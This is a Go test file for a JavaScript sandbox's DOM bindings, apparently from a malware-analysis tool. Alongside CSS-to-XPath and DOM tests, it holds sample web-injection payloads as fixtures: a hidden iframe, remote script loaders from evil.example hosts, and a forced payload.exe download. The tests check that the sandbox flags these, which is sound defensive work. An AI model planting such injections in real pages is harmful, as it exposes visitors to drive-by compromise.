// internal/browser/jsbind/dom_test.go
package jsbind

import (
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/xkilldash9x/jsbox/internal/analysis/dynamic"
)

func TestTranslateCSSToXPath(t *testing.T) {
	tests := []struct {
		css      string
		expected string
	}{
		{"*", "//*"},
		{"div", "//div"},
		{"#main", "//*[@id='main']"},
		{".btn", "//*[contains(concat(' ', normalize-space(@class), ' '), ' btn ')]"},
		{"a#x.y", "//a[@id='x' and contains(concat(' ', normalize-space(@class), ' '), ' y ')]"},
		{"input[type='text']", "//input[@type='text']"},
		{"a[href]", "//a[@href]"},
		{"ul > li", "//ul/li"},
		{"div p", "//div//p"},
		{"h1, h2", "//h1 | //h2"},
		{"a:hover", "//a"},
		{"//script", "//script"},
	}
	for _, tt := range tests {
		t.Run(tt.css, func(t *testing.T) {
			assert.Equal(t, tt.expected, translateCSSToXPath(tt.css))
		})
	}
}

func TestDOMManipulation_AppendAndQuery(t *testing.T) {
	te := SetupTest(t, "<html><body><div id='container'></div></body></html>")

	result := te.MustRunJS(`
		const container = document.getElementById('container');
		const p = document.createElement('p');
		p.textContent = 'Hello Sandbox';
		p.id = 'newP';
		container.appendChild(p);
		document.querySelector('#container > #newP').textContent;
	`)
	assert.Equal(t, "Hello Sandbox", result.String())
	assert.Contains(t, te.S.DOM().Render(), `<div id="container"><p id="newP">Hello Sandbox</p></div>`)
}

func TestDOMManipulation_InsertBeforeAndRemove(t *testing.T) {
	te := SetupTest(t, "<html><body><ul><li id='item2'>Two</li></ul><div id='parent'><span id='child'>x</span></div></body></html>")

	result := te.MustRunJS(`
		const list = document.querySelector('ul');
		const item1 = document.createElement('li');
		item1.textContent = 'One';
		list.insertBefore(item1, document.getElementById('item2'));
		document.getElementById('parent').removeChild(document.getElementById('child'));
		list.textContent + ":" + (document.getElementById('child') === null);
	`)
	assert.Equal(t, "OneTwo:true", result.String())
}

func TestDOMIdentity(t *testing.T) {
	te := SetupTest(t, "<html><body><div id='a'></div></body></html>")
	assert.True(t, te.MustRunJS(`document.getElementById('a') === document.querySelector('#a')`).ToBoolean())
	assert.True(t, te.MustRunJS(`document.body.firstChild === document.getElementById('a')`).ToBoolean())
}

func TestScopedQueryUnion(t *testing.T) {
	te := SetupTest(t, "<html><body><div id='s'><h1>in</h1></div><h2>out</h2></body></html>")
	n := te.MustRunJS(`document.getElementById('s').querySelectorAll('h1, h2').length`)
	assert.Equal(t, int64(1), n.ToInteger())
}

func TestInnerHTMLInjection(t *testing.T) {
	te := SetupTest(t, "<html><body><div id='t'></div></body></html>")
	te.MustRunJS(`
		window.ran = false;
		document.getElementById('t').innerHTML =
			'<iframe src="https://evil.example/x" style="display:none"></iframe><script>window.ran = true;</script>';
	`)

	ev := te.MustEvent("element.innerHTML")
	assert.Equal(t, dynamic.EventDOMManipulation, ev.Type)
	assert.Greater(t, ev.Severity, 0)
	assert.Contains(t, te.AC.URLs.URLs(), "https://evil.example/x")

	te.Drain()
	assert.True(t, te.MustRunJS(`window.ran`).ToBoolean(), "inline scripts run from the job queue")
}

func TestDocumentWriteHarvestsScripts(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`document.write('<script src="https://cdn.evil.example/a.js"></script><script>var written = 42;</script>')`)

	require.Len(t, te.Events("document.write"), 1)
	assert.Contains(t, te.AC.URLs.URLs(), "https://cdn.evil.example/a.js")
	te.Drain()
	assert.Equal(t, int64(42), te.MustRunJS(`written`).ToInteger())
}

func TestDynamicScriptAndHiddenFrame(t *testing.T) {
	te := SetupTest(t, "")
	te.MustRunJS(`
		var s = document.createElement('script');
		s.src = 'https://cdn.evil.example/loader.js';
		document.head.appendChild(s);

		var f = document.createElement('iframe');
		f.setAttribute('src', 'https://evil.example/frame');
		f.style.display = 'none';
		f.width = '0';
		document.body.appendChild(f);
	`)

	assert.Len(t, te.Findings("dynamic_script_injection"), 1)
	assert.Len(t, te.Findings("hidden_iframe_injection"), 1)
	assert.Contains(t, te.AC.URLs.URLs(), "https://cdn.evil.example/loader.js")
}

func TestElementEvents(t *testing.T) {
	te := SetupTest(t, "<html><body><a id='dl' href='https://evil.example/payload.exe' download>get</a></body></html>")
	res := te.MustRunJS(`
		var hits = 0;
		var a = document.getElementById('dl');
		a.addEventListener('click', function (e) { hits++; });
		a.onclick = function () { hits++; };
		a.click();
		hits;
	`)
	assert.Equal(t, int64(2), res.ToInteger())

	ev := te.MustEvent("element.click")
	assert.Equal(t, dynamic.EventLocationChange, ev.Type)
	assert.Equal(t, 7, ev.Severity)
	assert.Len(t, te.Findings("forced_download"), 1)
}
